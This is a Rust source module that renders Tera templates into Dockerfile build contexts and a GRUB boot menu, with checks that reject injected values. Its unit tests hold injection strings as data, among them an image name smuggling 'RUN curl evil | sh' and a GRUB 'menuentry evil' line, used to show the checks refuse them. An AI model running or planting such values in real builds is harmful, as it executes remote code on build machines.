//! Templates (Tera) and overlays into build contexts: the default templates travel in the
//! binary and `--templates DIR` replaces any of them; a build context is a directory holding
//! the rendered Dockerfile and the files it copies.

use std::path::{Path, PathBuf};

use tera::{Context, Tera};

use crate::config::{Resolved, SETTINGS};
use crate::yaml;

/// The templates forge knows, with their built-in text.
const TEMPLATES: &[(&str, &str)] = &[
    ("sources.yaml", include_str!("../templates/sources.yaml")),
    (
        "base.Dockerfile",
        include_str!("../templates/base.Dockerfile"),
    ),
    (
        "user.Dockerfile",
        include_str!("../templates/user.Dockerfile"),
    ),
    (
        "provider.Dockerfile",
        include_str!("../templates/provider.Dockerfile"),
    ),
    (
        "installer.Dockerfile",
        include_str!("../templates/installer.Dockerfile"),
    ),
    (
        "profile-snippet.yaml",
        include_str!("../templates/profile-snippet.yaml"),
    ),
    ("grub.cfg", include_str!("../templates/grub.cfg")),
    (
        "iso-tools.Dockerfile",
        include_str!("../templates/iso-tools.Dockerfile"),
    ),
];

#[derive(Debug, thiserror::Error)]
pub enum RenderError {
    #[error("template `{name}`: {detail}")]
    Template { name: String, detail: String },
    #[error("cannot read `{path}`: {source}")]
    Read {
        path: PathBuf,
        source: std::io::Error,
    },
    #[error("template `{name}` rendered {found} instructions where it has {expected} with plain values: a value added or joined build steps")]
    Injected {
        name: String,
        expected: usize,
        found: usize,
    },
    #[error("cannot write the build context `{path}`: {source}")]
    Write {
        path: PathBuf,
        source: std::io::Error,
    },
}

/// Where each layer of the images comes from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Sources {
    pub base_image: String,
    pub provider_image: String,
    pub agent_image: String,
    /// With `{version}` standing for the Kubernetes version; empty when not configured.
    pub k8s_image: String,
}

/// The loaded templates.
pub struct Templates {
    tera: Tera,
}

fn tera_error(name: &str, e: tera::Error) -> RenderError {
    let mut detail = e.to_string();
    let mut source = std::error::Error::source(&e);
    while let Some(s) = source {
        detail.push_str(": ");
        detail.push_str(&s.to_string());
        source = s.source();
    }
    RenderError::Template {
        name: name.to_string(),
        detail,
    }
}

impl Templates {
    /// The built-in templates, each replaced by `DIR/NAME` when that file exists.
    pub fn load(dir: Option<&Path>) -> Result<Templates, RenderError> {
        let mut tera = Tera::default();
        tera.autoescape_on(vec![]);
        tera.register_filter("grub_quote", grub_quote_filter);
        for (name, builtin) in TEMPLATES {
            let text = match dir.map(|d| d.join(name)).filter(|p| p.is_file()) {
                Some(path) => std::fs::read_to_string(&path)
                    .map_err(|source| RenderError::Read { path, source })?,
                None => builtin.to_string(),
            };
            tera.add_raw_template(name, &text)
                .map_err(|e| tera_error(name, e))?;
        }
        Ok(Templates { tera })
    }

    pub fn render(&self, name: &str, context: &Context) -> Result<String, RenderError> {
        self.tera
            .render(name, context)
            .map_err(|e| tera_error(name, e))
    }

    /// Render a Dockerfile template and check that the values did not change its instructions:
    /// it must have as many as it has when every value is made harmless (line breaks, control
    /// characters and backslashes, which continue lines, replaced).
    pub fn render_dockerfile(&self, name: &str, context: &Context) -> Result<String, RenderError> {
        let rendered = self.render(name, context)?;
        let plain = Context::from_value(neutralize(context.clone().into_json()))
            .expect("a context stays an object");
        let expected = instructions(&self.render(name, &plain)?);
        let found = instructions(&rendered);
        if found != expected {
            return Err(RenderError::Injected {
                name: name.to_string(),
                expected,
                found,
            });
        }
        Ok(rendered)
    }

    /// `sources.yaml` rendered, each entry overridden by its setting (BASE_IMAGE, ...).
    pub fn sources(&self, settings: &Resolved) -> Result<Sources, RenderError> {
        let text = self.render("sources.yaml", &context(settings))?;
        let doc = yaml::parse(&text).map_err(|e| RenderError::Template {
            name: "sources.yaml".into(),
            detail: format!("line {}: {}", e.pos.line, e.message),
        })?;
        let pick = |key: &str, setting: &str| {
            settings
                .get(setting)
                .map(str::to_string)
                .unwrap_or_else(|| {
                    doc.root
                        .get(key)
                        .and_then(yaml::Node::as_str)
                        .unwrap_or_default()
                        .to_string()
                })
        };
        Ok(Sources {
            base_image: pick("base_image", "BASE_IMAGE"),
            provider_image: pick("provider_image", "PROVIDER_IMAGE"),
            agent_image: pick("agent_image", "AGENT_IMAGE"),
            k8s_image: pick("k8s_image", "K8S_IMAGE"),
        })
    }
}

/// A context's strings with what could add or join Dockerfile lines replaced by `_`. Values
/// that are rendered templates themselves (`user_dockerfile`) keep their lines.
fn neutralize(value: serde_json::Value) -> serde_json::Value {
    use serde_json::Value;
    match value {
        Value::String(s) => Value::String(s.replace(|c: char| c.is_control() || c == '\\', "_")),
        Value::Object(map) => Value::Object(
            map.into_iter()
                .map(|(k, v)| {
                    let v = if VERBATIM.contains(&k.as_str()) {
                        v
                    } else {
                        neutralize(v)
                    };
                    (k, v)
                })
                .collect(),
        ),
        Value::Array(items) => Value::Array(items.into_iter().map(neutralize).collect()),
        other => other,
    }
}

/// Context values that are multi-line by design, checked when they were rendered.
const VERBATIM: &[&str] = &["user_dockerfile"];

/// The number of instructions of a Dockerfile: logical lines (a trailing `\` continues one)
/// that are neither blank nor comments.
pub fn instructions(dockerfile: &str) -> usize {
    let mut count = 0;
    let mut continued = false;
    for line in dockerfile.lines() {
        let trimmed = line.trim();
        if !continued && !trimmed.is_empty() && !trimmed.starts_with('#') {
            count += 1;
        }
        if !(continued && (trimmed.is_empty() || trimmed.starts_with('#'))) {
            continued = trimmed.ends_with('\\');
        }
    }
    count
}

/// GRUB script quoting: the value as one single-quoted word (GRUB, like a POSIX shell, takes
/// everything between single quotes literally; a single quote is written `'\''`). Control
/// characters cannot be quoted and are refused.
pub fn grub_quote(value: &str) -> Result<String, String> {
    if let Some(c) = value.chars().find(|c| c.is_control()) {
        return Err(format!(
            "a control character (U+{:04X}) cannot go into grub.cfg",
            c as u32
        ));
    }
    Ok(format!("'{}'", value.replace('\'', "'\\''")))
}

fn grub_quote_filter(
    value: &tera::Value,
    _: &std::collections::HashMap<String, tera::Value>,
) -> tera::Result<tera::Value> {
    let text = match value {
        tera::Value::String(s) => s.clone(),
        other => other.to_string(),
    };
    grub_quote(&text)
        .map(tera::Value::String)
        .map_err(tera::Error::msg)
}

/// Every setting, by its lower-case name, as template variables.
pub fn context(settings: &Resolved) -> Context {
    let mut context = Context::new();
    for def in SETTINGS {
        context.insert(
            def.name.to_ascii_lowercase(),
            settings.get(def.name).unwrap_or_default(),
        );
    }
    context
}

/// Write a build context: the Dockerfile and each `(path in context, source file or directory)`.
pub fn write_context(
    dir: &Path,
    dockerfile: &str,
    files: &[(String, PathBuf)],
) -> Result<(), RenderError> {
    let write_err = |path: &Path| {
        let path = path.to_path_buf();
        move |source| RenderError::Write { path, source }
    };
    std::fs::create_dir_all(dir).map_err(write_err(dir))?;
    std::fs::write(dir.join("Dockerfile"), dockerfile).map_err(write_err(dir))?;
    for (dest, src) in files {
        let target = dir.join(dest);
        if src.is_dir() {
            for entry in walkdir::WalkDir::new(src).follow_links(false) {
                let entry = entry.map_err(|e| RenderError::Read {
                    path: src.clone(),
                    source: e.into(),
                })?;
                let rel = entry
                    .path()
                    .strip_prefix(src)
                    .expect("walkdir stays below its root");
                let out = target.join(rel);
                let file_type = entry.file_type();
                if file_type.is_dir() {
                    // With its own mode: COPY gives existing directories in the image the
                    // mode of the context's (forge's umask must not make /etc 0700).
                    let mode = entry.metadata().map_err(|e| RenderError::Read {
                        path: entry.path().to_path_buf(),
                        source: e.into(),
                    })?;
                    std::fs::create_dir_all(&out).map_err(write_err(&out))?;
                    std::fs::set_permissions(&out, mode.permissions()).map_err(write_err(&out))?;
                } else if file_type.is_symlink() {
                    let link =
                        std::fs::read_link(entry.path()).map_err(|source| RenderError::Read {
                            path: entry.path().to_path_buf(),
                            source,
                        })?;
                    std::os::unix::fs::symlink(link, &out).map_err(write_err(&out))?;
                } else {
                    std::fs::copy(entry.path(), &out).map_err(write_err(&out))?;
                }
            }
        } else {
            if let Some(parent) = target.parent() {
                std::fs::create_dir_all(parent).map_err(write_err(parent))?;
            }
            std::fs::copy(src, &target).map_err(|source| RenderError::Read {
                path: src.clone(),
                source,
            })?;
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::{resolve, Inputs};

    #[test]
    fn sources_default_to_the_canvos_images_and_settings_override_them() {
        let settings = resolve(&Inputs {
            sets: vec![
                ("K8S_DISTRIBUTION".into(), "k3s".into()),
                ("AGENT_IMAGE".into(), "local/agent:1".into()),
            ],
            ..Inputs::default()
        });
        let sources = Templates::load(None).unwrap().sources(&settings).unwrap();
        assert_eq!(
            sources.base_image,
            "us-docker.pkg.dev/palette-images/edge/kairos-ubuntu:22.04-core-amd64-generic-v3.5.9"
        );
        assert_eq!(
            sources.provider_image,
            "us-docker.pkg.dev/palette-images/edge/kairos-io/provider-k3s:v4.7.1"
        );
        assert_eq!(sources.agent_image, "local/agent:1");
        assert_eq!(sources.k8s_image, "");
    }

    #[test]
    fn a_template_directory_replaces_single_templates() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join("user.Dockerfile"),
            "RUN echo {{ custom_tag }}\n",
        )
        .unwrap();
        let templates = Templates::load(Some(dir.path())).unwrap();
        let settings = resolve(&Inputs {
            sets: vec![("CUSTOM_TAG".into(), "demo".into())],
            ..Inputs::default()
        });
        assert_eq!(
            templates
                .render("user.Dockerfile", &context(&settings))
                .unwrap(),
            "RUN echo demo\n"
        );
        std::fs::write(dir.path().join("base.Dockerfile"), "FROM {{ oops").unwrap();
        assert!(matches!(
            Templates::load(Some(dir.path())),
            Err(RenderError::Template { .. })
        ));
    }

    #[test]
    fn instructions_are_logical_lines_without_comments() {
        let dockerfile = "# a comment\nFROM a\n\nRUN one \\\n # comment inside\n  two\nCOPY x /\n";
        assert_eq!(instructions(dockerfile), 3);
    }

    #[test]
    fn a_value_that_adds_a_build_step_is_refused() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join("base.Dockerfile"),
            "FROM {{ base_image }}\nRUN true\n",
        )
        .unwrap();
        let templates = Templates::load(Some(dir.path())).unwrap();
        let mut ctx = Context::new();
        ctx.insert("base_image", "debian:bookworm");
        assert!(templates.render_dockerfile("base.Dockerfile", &ctx).is_ok());
        for injected in ["debian\nRUN curl evil | sh", "debian \\"] {
            ctx.insert("base_image", injected);
            let err = templates
                .render_dockerfile("base.Dockerfile", &ctx)
                .unwrap_err();
            assert!(
                matches!(err, RenderError::Injected { expected: 2, .. }),
                "{injected:?}: {err}"
            );
        }
    }

    #[test]
    fn grub_quote_makes_one_literal_word() {
        assert_eq!(
            grub_quote("quiet console=ttyS0").unwrap(),
            "'quiet console=ttyS0'"
        );
        assert_eq!(grub_quote("a'b $x").unwrap(), "'a'\\''b $x'");
        assert_eq!(grub_quote("").unwrap(), "''");
        assert!(grub_quote("a\nmenuentry evil {").is_err());
    }

    #[test]
    fn the_boot_menu_takes_kernel_arguments_as_one_quoted_value() {
        let settings = resolve(&Inputs {
            sets: vec![("ISO_KERNEL_ARGS".into(), "quiet nomodeset".into())],
            ..Inputs::default()
        });
        let mut ctx = context(&settings);
        ctx.insert("label", "COS_LIVE");
        ctx.insert("default_entry", "installer");
        let menu = Templates::load(None)
            .unwrap()
            .render("grub.cfg", &ctx)
            .unwrap();
        assert!(menu.contains("set user_args='quiet nomodeset'\n"), "{menu}");
    }
}
